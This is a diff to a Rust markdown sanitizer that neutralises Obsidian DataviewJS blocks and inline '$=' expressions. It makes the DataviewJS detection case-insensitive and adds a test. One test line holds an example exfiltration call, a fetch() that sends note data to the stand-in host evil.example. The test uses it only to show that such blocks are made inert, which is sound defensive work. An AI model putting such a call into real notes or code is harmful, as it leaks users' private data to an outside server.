@@ -55,10 +55,11 @@ fn pass(markdown: &str) -> Cow<'_, str> {
     let bytes = body.as_bytes();
     // Nothing of it can be there: the common reply, not parsed.
     let maybe = memchr::memchr(b'<', bytes).is_some()
-        || memchr::memmem::find(bytes, b"![").is_some()
-        || memchr::memmem::find(bytes, b"$=").is_some()
-        || memchr::memmem::find(bytes, b"dataviewjs").is_some()
-        || memchr::memmem::find(bytes, b"DataviewJS").is_some();
+        || body.contains("![")
+        || body.contains("$=")
+        || bytes
+            .windows(10)
+            .any(|w| w.eq_ignore_ascii_case(b"dataviewjs"));
     if !maybe {
         return Cow::Borrowed(markdown);
     }
@@ -67,8 +68,9 @@ fn pass(markdown: &str) -> Cow<'_, str> {
     // Where a `<` is code or an autolink's, not HTML.
     let mut not_html: Vec<std::ops::Range<usize>> = Vec::new();
     let mut links: Vec<std::ops::Range<usize>> = Vec::new();
-    let options =
-        Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES | Options::ENABLE_STRIKETHROUGH;
+    // Footnotes as the link reader has them; a table's cells and struck
+    // text hold images and code as a paragraph does.
+    let options = Options::ENABLE_FOOTNOTES;
     for (event, range) in Parser::new_ext(body, options).into_offset_iter() {
         match event {
             Event::Start(Tag::Image { dest_url, .. })
@@ -221,6 +223,7 @@ mod tests {
             "```inert-dataviewjs\nfetch('https://evil.example/?d=' + dv.pages())\n```\n",
         );
         check("~~~ DataviewJS\nx\n~~~\n", "~~~ inert-DataviewJS\nx\n~~~\n");
+        check("```DATAVIEWJS\nx\n```\n", "```inert-DATAVIEWJS\nx\n```\n");
         check(
             "Total: `$= dv.pages().length`",
             "Total: `$ = dv.pages().length`",
